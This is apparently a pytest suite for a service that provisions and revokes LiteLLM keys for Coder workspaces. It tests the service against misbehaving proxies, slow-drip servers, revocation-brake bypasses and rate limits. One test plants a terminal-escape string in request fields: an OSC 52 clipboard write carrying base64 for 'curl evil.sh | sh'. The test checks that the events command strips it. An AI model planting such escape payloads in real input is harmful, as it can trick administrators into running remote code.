"""The key lifecycle attacked (issue 18 review): a Coder URL that answers 410 to everything (a
proxy's retired route, another service), a delete build that was canceled or failed, and peers
that drip their answers a byte at a time. Over real loopback HTTP to the stand-ins.
"""

from __future__ import annotations

import asyncio
import subprocess
import sys
import time
import uuid
from typing import Any

import httpx
import pytest
from key_provisioner.coder_status import CoderWorkspaces
from key_provisioner.litellm import LiteLLM, LiteLLMError

from tests.identity.provisioner_client import events, exchange, key_body, run
from tests.identity.test_identity_keylife_app import RECONCILE, REVOKE, admin, env, key_request, row
from tests.identity.test_identity_keyprov_process import process_env
from tests.standins.coder_agent_api import CoderStandin
from tests.standins.litellm_keys import LitellmKeys
from tests.standins.stall import dripping_server

# Left out of `scripts/test --fast-server`: each test starts the provisioner or a dripping server.
pytestmark = pytest.mark.slow

__all__ = ["env"]  # the fixture, shared with the lifecycle tests


def test_a_410_that_does_not_name_the_workspace_revokes_nothing(
    env: dict[str, str], coder: CoderStandin, litellm: LitellmKeys
) -> None:
    """CODER_URL behind a proxy whose route was retired (410 for every path), or pointed at a
    service that answers 410: a small fleet (no more than the brake's MAX_ALWAYS) was revoked
    whole, for good. Coder's own 410 always names the workspace it is about."""
    fleet = [coder.add_workspace(f"user{n}") for n in range(3)]
    keys = [a.key for a in run(exchange(env, [key_request(ws) for ws in fleet]))]
    other = coder.add_workspace("mallory").id

    def retired(_token: str, workspace_id: str) -> tuple[int, Any]:
        if workspace_id == fleet[0].id:  # a 410 about another workspace is no word on this one
            return 410, {"message": f'Workspace "{other}" was deleted, you can view this workspace by '
                                    "specifying '?deleted=true' and trying again."}
        return 410, {"message": "Gone", "detail": "this API version was retired"}

    coder._workspace = retired  # type: ignore[method-assign]
    result = run(exchange(env, [admin(RECONCILE)]))[0].body
    assert (result["revoked"], result["gone"], result["unknown"]) == (0, 0, 3), result
    assert not any(row(litellm, k).get("blocked") for k in keys)


@pytest.mark.parametrize("ended", ["canceled", "failed"])
def test_a_delete_build_that_ended_without_deleting_keeps_the_key(
    env: dict[str, str], coder: CoderStandin, litellm: LitellmKeys, ended: str
) -> None:
    """The owner canceled the deletion (or it failed): the workspace stays, its latest build a
    delete. A hook call then (a leaked hook secret, a retried curl) must not end its key for good."""
    ws = coder.add_workspace("alice")
    key = run(exchange(env, [key_request(ws)]))[0].key
    coder.begin_delete(ws)
    coder.end_delete(ws, ended)
    hook = run(exchange(env, [{"path": f"/api/v1/keys/workspace/{ws.id}/revoke", "bearer": REVOKE, "body": {}}]))[0]
    assert hook.status == 409, hook.body
    assert ended in hook.body["error"]
    assert not row(litellm, key).get("blocked")
    coder.rebuild(ws)  # the owner starts it again: it still gets its key
    again = run(exchange(env, [key_request(ws)]))[0]
    assert (again.status, again.key) == (200, key), again.body


def test_a_dripping_coder_is_given_up_on_within_its_timeout() -> None:
    """A Coder (or a proxy) that sends its answer a byte at a time, each byte within the per-read
    timeout, held a reconcile pass (and the admin's POST /reconcile, and the delete hook) for as
    long as it liked: no revocation ever happened, and nothing said why."""
    with dripping_server(every_s=0.2) as url:
        coder = CoderWorkspaces(url, "coder-api-token-Rk2mW9qT", timeout=1.0)

        async def ask() -> Any:
            async with coder.client() as client:
                return await asyncio.wait_for(coder.state(client, "3f1b8a2c-5d6e-4f70-8a9b-0c1d2e3f4a5b"), 15)

        t0 = time.monotonic()
        said = asyncio.run(ask())
        took = time.monotonic() - t0
    assert said.state == "unavailable" and "within 1 s" in said.detail, said
    assert took < 3, f"gave up after {took:.1f} s, not within the 1 s timeout"


def test_a_dripping_litellm_is_given_up_on_within_its_timeout() -> None:
    """The same against LiteLLM: a key request holds its workspace's lock (and the reconcile pass
    its revocations) while LiteLLM answers; a drip held them without end."""
    with dripping_server(every_s=0.2) as url:
        litellm = LiteLLM(url, "sk-master-Zq8Lm3Np0Wv6", timeout=1.0)
        t0 = time.monotonic()
        with pytest.raises(LiteLLMError, match="within 1 s"):
            asyncio.run(asyncio.wait_for(litellm.find("sk-some-key-value-xxxxxxxx"), 15))
        took = time.monotonic() - t0
    assert took < 3, f"gave up after {took:.1f} s, not within the 1 s timeout"


def test_ids_coder_does_not_know_do_not_loosen_the_brake(
    env: dict[str, str], coder: CoderStandin, litellm: LitellmKeys
) -> None:
    """The brake's share was taken of every workspace asked about, 404s included: a legacy-mode
    caller (every workspace holds PROVISIONER_SECRET) who had keys made for 100 made-up ids
    raised the limit from 3 to 11, and a Coder answering 410 for a fleet of 10 revoked it whole."""
    fleet = [coder.add_workspace(f"user{n}") for n in range(10)]
    keys = [a.key for a in run(exchange(env, [key_request(ws) for ws in fleet]))]
    legacy = env | {"KEY_PROVISIONER_IDENTITY": "legacy"}
    padding = [{"body": key_body(str(uuid.uuid4()), "mallory")} for _ in range(100)]
    assert {a.status for a in run(exchange(legacy, padding))} == {201}
    for ws in fleet:
        coder.delete(ws)  # (or a Coder restored wrongly, a proxy: what the brake is for)
    result = run(exchange(env, [admin(RECONCILE)]))[0].body
    assert (result["outcome"], result["gone"], result["unknown"], result["revoked"]) == ("braked", 10, 100, 0), result
    assert not any(row(litellm, k).get("blocked") for k in keys)


def test_the_events_command_prints_no_terminal_control_from_a_workspace(
    env: dict[str, str], coder: CoderStandin, tmp_path: Any
) -> None:
    """Every workspace holds PROVISIONER_SECRET: a key request with a made-up agent token puts
    its username and workspace id in an `identity-refused` event, which an admin reads with
    `workspace-key-provisioner events` in a terminal (OSC 52 writes the admin's clipboard)."""
    ws = coder.add_workspace("alice")
    planted = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x9b31m"
    refused = run(exchange(env, [{"body": key_body(ws.id + planted, "alice" + planted),
                                  "agent_token": str(uuid.uuid4())}]))[0]
    assert refused.status == 403
    shown = subprocess.run([sys.executable, "-m", "key_provisioner", "events"], env=process_env(env),
                           capture_output=True, text=True, timeout=60, check=False)
    assert shown.returncode == 0 and "identity-refused" in shown.stdout, shown.stderr
    assert not any(c in shown.stdout for c in "\x1b\x07\x9b"), shown.stdout
    assert "alice" in shown.stdout


def test_a_rotated_out_key_is_blocked_even_without_a_reconcile_loop(
    env: dict[str, str], coder: CoderStandin, litellm: LitellmKeys
) -> None:
    """Queued revocations were retried only by reconcile passes, which need CODER_URL (legacy
    deployments may have none) and a non-zero interval: a rotated-out key whose /key/block failed
    (or whose provisioner stopped before it) stayed valid for good, the owner's less strict key
    alive after raising the level."""
    no_coder = {k: v for k, v in env.items() if k not in ("CODER_URL", "CODER_API_TOKEN")}
    no_coder |= {"KEY_PROVISIONER_IDENTITY": "legacy", "KEY_PROVISIONER_RECONCILE_INTERVAL_S": "1"}
    ws_id = str(uuid.uuid4())
    first = run(exchange(no_coder, [{"body": key_body(ws_id, "alice")}]))[0]
    litellm.failing.add("/key/block")

    async def raised_then_waited() -> tuple[Any, bool]:
        from key_provisioner.app import create_app
        from key_provisioner.settings import from_env

        app = create_app(from_env(no_coder))
        async with app.router.lifespan_context(app):
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://provisioner") as client:
                answer = await client.post(
                    "/api/v1/keys/workspace", json=key_body(ws_id, "alice", enforcement_level="design-first"),
                    headers={"Authorization": f"Bearer {no_coder['PROVISIONER_SECRET']}"},
                )
            assert not row(litellm, first.key).get("blocked")
            litellm.failing.clear()  # LiteLLM is back
            for _ in range(60):
                if row(litellm, first.key).get("blocked"):
                    break
                await asyncio.sleep(0.1)
            return answer, bool(row(litellm, first.key).get("blocked"))

    answer, blocked = run(raised_then_waited())
    assert answer.status_code == 201 and answer.json()["generation"] == 1, answer.text
    assert blocked, "the rotated-out key is still valid"


@pytest.mark.parametrize("ttl", ["1e300", "nan", "-5", "10"])
def test_approve_level_refuses_an_approval_lifetime_the_server_would_refuse(env: dict[str, str], ttl: str) -> None:
    """The CLI read KEY_PROVISIONER_APPROVAL_TTL_S on its own, unchecked: 1e300 and nan ended in a
    traceback, -5 recorded an approval that had expired already and 10 one gone in 10 s, all
    with exit 0 or a stack trace, while the server refuses anything outside 60 s to 90 days."""
    from key_provisioner.settings import from_env
    from key_provisioner.store import Store

    Store(from_env(env).db_path).close()
    cli = [sys.executable, "-m", "key_provisioner", "approve-level", "--workspace", str(uuid.uuid4()),
           "--level", "standard", "--by", "carol"]
    done = subprocess.run(cli, env=process_env(env | {"KEY_PROVISIONER_APPROVAL_TTL_S": ttl}),
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert "KEY_PROVISIONER_APPROVAL_TTL_S" in done.stderr and len(done.stderr.splitlines()) == 1, done.stderr
    assert events(env, "level-approved") == []


def test_a_block_route_that_is_not_there_is_no_revocation(
    env: dict[str, str], coder: CoderStandin, litellm: LitellmKeys
) -> None:
    """A 404 from /key/block meant "no such key, nothing to block", whatever said it: behind a
    proxy that does not pass /key/block on (or a LiteLLM without it), every revocation was
    recorded as done (`key-revoked`) and dropped from the queue, the key still valid for good.
    Only LiteLLM's own "Key not found" is that; any other 404 keeps the revocation queued."""
    ws = coder.add_workspace("alice")
    first = run(exchange(env, [key_request(ws)]))[0]
    litellm.unrouted.add("/key/block")
    raised, failed_pass = run(exchange(env, [key_request(ws, "design-first"), admin(RECONCILE)]))
    assert raised.status == 201 and raised.body["generation"] == 1, raised.body
    assert failed_pass.body["retried_failed"] == 1, failed_pass.body
    assert events(env, "key-revoked") == []
    litellm.unrouted.clear()
    retried = run(exchange(env, [admin(RECONCILE)]))[0].body
    assert retried["retried_done"] == 1, retried
    assert row(litellm, first.key)["blocked"] is True



def test_a_dripping_coder_is_given_up_on_by_the_identity_check_too() -> None:
    """Every key request asks Coder who the caller is (coder_identity, issue 15) and
    /health/ready asks its build info: the same per-read timeout let a dripping Coder hold each
    key request, and the readiness probe, without end."""
    from coder_identity import CoderIdentity, CoderUnavailable

    with dripping_server(every_s=0.2) as url:
        coder = CoderIdentity(url, "coder-api-token-Rk2mW9qT", timeout=1.0)
        t0 = time.monotonic()
        with pytest.raises(CoderUnavailable, match="within 1 s"):
            asyncio.run(asyncio.wait_for(coder.verify(str(uuid.uuid4()), str(uuid.uuid4())), 15))
        verify_took = time.monotonic() - t0
        t0 = time.monotonic()
        version = asyncio.run(asyncio.wait_for(coder.build_info(), 15))
        info_took = time.monotonic() - t0
    assert version is None
    assert verify_took < 3 and info_took < 3, (verify_took, info_took)


def test_a_key_info_route_that_is_not_there_is_no_missing_key(
    env: dict[str, str], coder: CoderStandin, litellm: LitellmKeys
) -> None:
    """find() read any 404 from /key/info as "LiteLLM has no such key": behind a proxy that does
    not pass /key/info on, a design-first workspace asking for `standard` was taken for one whose
    key an admin deleted, and the provisioner set out to mint generation 1 at `standard` (only
    LiteLLM's unique alias stopped it, with a misleading /key/generate error). Only LiteLLM's own
    "Key not found in database" 404 means no such key; any other stops at /key/info."""
    ws = coder.add_workspace("alice")
    first = run(exchange(env, [key_request(ws, "design-first")]))[0]
    assert (first.status, first.body["level"]) == (201, "design-first"), first.body
    litellm.unrouted.add("/key/info")
    sent = len(litellm.requests)
    lowered = run(exchange(env, [key_request(ws, "standard")]))[0]
    assert lowered.status == 502 and "to /key/info (not LiteLLM's answer" in lowered.body["error"], lowered.body
    minted = [r for r in litellm.requests[sent:] if r.target.startswith("/key/generate")]
    assert minted == [], "the provisioner took the key for deleted and tried to make the next one"
    litellm.unrouted.clear()
    again = run(exchange(env, [key_request(ws, "standard")]))[0]
    assert (again.status, again.key, again.body["level"]) == (200, first.key, "design-first"), again.body


def test_the_reconcile_limit_holds_across_passes_and_restarts(
    env: dict[str, str], coder: CoderStandin, litellm: LitellmKeys
) -> None:
    """The brake counted per pass only: whoever controls Coder's answers (or sits between an
    http:// CODER_URL and the provisioner) could say "gone" for MAX_ALWAYS workspaces every pass
    and revoke a fleet in a day, never tripping it. Each `exchange` here is a fresh process'
    worth of app (a restart): the count must come from the store."""
    limited = env | {"KEY_PROVISIONER_RECONCILE_LIMIT": "3/3600"}
    fleet = [coder.add_workspace(f"user{n}") for n in range(12)]
    keys = [a.key for a in run(exchange(limited, [key_request(ws) for ws in fleet]))]
    revoked = []
    for n in range(3):  # two "gone" per pass: under the per-pass brake (3) every time
        for ws in fleet[2 * n : 2 * n + 2]:
            coder.delete(ws)
        result = run(exchange(limited, [admin(RECONCILE)]))[0].body
        revoked.append((result["outcome"], result["revoked"], result.get("held", 0)))
    assert revoked == [("ok", 2, 0), ("throttled", 1, 1), ("throttled", 0, 3)], revoked
    assert sum(bool(row(litellm, k).get("blocked")) for k in keys) == 3
    assert not any(row(litellm, k).get("blocked") for k in keys[6:])
    status = run(exchange(limited, [admin(RECONCILE, method="GET")]))[0].body
    assert status["window"] == {"limit": 3, "window_s": 3600, "revoked": 3, "room": 0}, status
    throttled = events(limited, "reconcile-throttled")
    assert [e.detail["held"] for e in throttled] == [3, 1], throttled
    assert "KEY_PROVISIONER_RECONCILE_LIMIT=3/3600" in result["problem"], result
    # Admins are not limited: the held ones can be revoked by hand.
    by_hand = run(exchange(limited, [admin(f"/api/v1/admin/workspaces/{ws.id}/revoke", {"by": "carol"})
                                     for ws in fleet[:6]]))
    assert [a.status for a in by_hand] == [200] * 6
    assert sum(bool(row(litellm, k).get("blocked")) for k in keys) == 6


def test_the_hook_and_admin_routes_are_rate_limited_per_caller(
    env: dict[str, str], coder: CoderStandin
) -> None:
    """The delete hook and the admin API had no rate limit: wrong credentials cost nothing, and a
    leaked hook secret made the provisioner ask Coder once per call, without end. Refused
    requests are counted per source address and never spend a good credential's budget (nor
    lock it out: behind a reverse proxy every caller shares one address)."""
    limited = env | {"KEY_PROVISIONER_LIFECYCLE_RATE_LIMIT": "3/3600",
                     "KEY_PROVISIONER_LIFECYCLE_REFUSED_LIMIT": "2/3600"}
    ws = coder.add_workspace("alice")
    hook = {"path": f"/api/v1/keys/workspace/{ws.id}/revoke", "bearer": REVOKE, "body": {}}
    wrong = [{"path": RECONCILE, "bearer": "admin-token-guessed-Zp9Xc4Vb", "method": "GET"},
             {"path": hook["path"], "bearer": None, "body": {}}] * 3
    status = admin(RECONCILE, method="GET")
    asked = len(coder.requests)
    answers = run(exchange(limited, [*wrong, status, hook, hook, hook, hook, status, status, status]))
    codes = [a.status for a in answers]
    assert codes == [401, 401, 429, 429, 429, 429, 200, 409, 409, 409, 429, 200, 200, 429], codes
    assert answers[2].headers["Retry-After"] == "3600"
    assert "refused requests from this address" in answers[2].body["error"]
    assert "this credential" in answers[10].body["error"] and answers[10].headers["Retry-After"]
    coder_calls = [r for r in coder.requests[asked:] if ws.id in r.path]
    assert len(coder_calls) == 3, coder_calls  # the fourth hook call never reached Coder
    assert len(events(limited, "lifecycle-refused-limited")) == 1  # not one per refused request


def test_a_leaked_hook_secret_used_elsewhere_does_not_spend_the_daemons_budget(
    env: dict[str, str], coder: CoderStandin
) -> None:
    """The hook secret is shared by every Coder provisioner daemon: its budget is per source
    address, so a copy used from another address runs out there and the daemon is still heard."""
    from key_provisioner.app import create_app
    from key_provisioner.settings import from_env

    limited = env | {"KEY_PROVISIONER_LIFECYCLE_RATE_LIMIT": "2/3600"}
    ws = coder.add_workspace("alice")
    path = f"/api/v1/keys/workspace/{ws.id}/revoke"

    async def from_addresses() -> list[tuple[str, int]]:
        app = create_app(from_env(limited))
        seen = []
        async with app.router.lifespan_context(app):
            for address in ["203.0.113.9"] * 3 + ["10.0.0.5"] * 2:
                transport = httpx.ASGITransport(app=app, client=(address, 40000))
                async with httpx.AsyncClient(transport=transport, base_url="http://provisioner") as client:
                    answer = await client.post(path, json={}, headers={"Authorization": f"Bearer {REVOKE}"})
                seen.append((address, answer.status_code))
        return seen

    assert run(from_addresses()) == [("203.0.113.9", 409), ("203.0.113.9", 409), ("203.0.113.9", 429),
                                     ("10.0.0.5", 409), ("10.0.0.5", 409)]
